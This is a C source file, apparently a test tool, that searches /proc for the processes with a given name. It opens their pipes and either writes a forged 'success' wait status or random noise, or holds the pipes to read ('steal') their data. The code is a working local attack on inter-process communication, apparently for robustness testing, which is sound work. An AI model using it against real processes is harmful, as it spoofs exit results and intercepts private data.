// A43 / T56: writes to every pipe of the processes of this name that can be
// opened: a forged wait status of success, or noise.
//
// usage: forge NAME success|noise|steal
//
// Says how many descriptors were written to (or, with steal, read from; then it
// keeps them open until it is killed).

#define _GNU_SOURCE
#include "named.h"

#include <fcntl.h>
#include <poll.h>
#include <sys/stat.h>
#include <unistd.h>

static int kept[64], keeps, hit;
static const char *how;

static int attack(const char *path)
{
	struct stat about;
	char bytes[4096] = "";
	int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &about) || !S_ISFIFO(about.st_mode)) {
		close(fd);
		return 0;
	}
	if (!strcmp(how, "steal") && keeps < 64) {
		kept[keeps++] = fd;
		return 1;
	}
	int random = open("/dev/urandom", O_RDONLY), size = 4;
	if (!strcmp(how, "noise"))
		size = read(random, bytes, sizeof bytes);
	close(random);
	int wrote = write(fd, bytes, size) == size;
	close(fd);
	return wrote;
}

static void attack_all(int pid)
{
	char folder[64];
	snprintf(folder, sizeof folder, "/proc/%d/fd", pid);
	DIR *descriptors = opendir(folder);
	for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
		char path[400];
		snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		hit += attack(path);
	}
	if (descriptors)
		closedir(descriptors);
}

int main(int count, char **arguments)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (count == 3) {
		how = arguments[2];
		each_process_named(arguments[1], attack_all);
	}
	printf("pipes %d\n", hit);
	while (keeps) {
		struct pollfd any[64];
		char bytes[4096];
		for (int index = 0; index < keeps; index++)
			any[index] = (struct pollfd){ kept[index], POLLIN, 0 };
		poll(any, keeps, -1);
		for (int index = 0; index < keeps; index++)
			if (any[index].revents & POLLIN && read(kept[index], bytes, sizeof bytes) > 0)
				printf("stolen\n");
	}
	return 0;
}
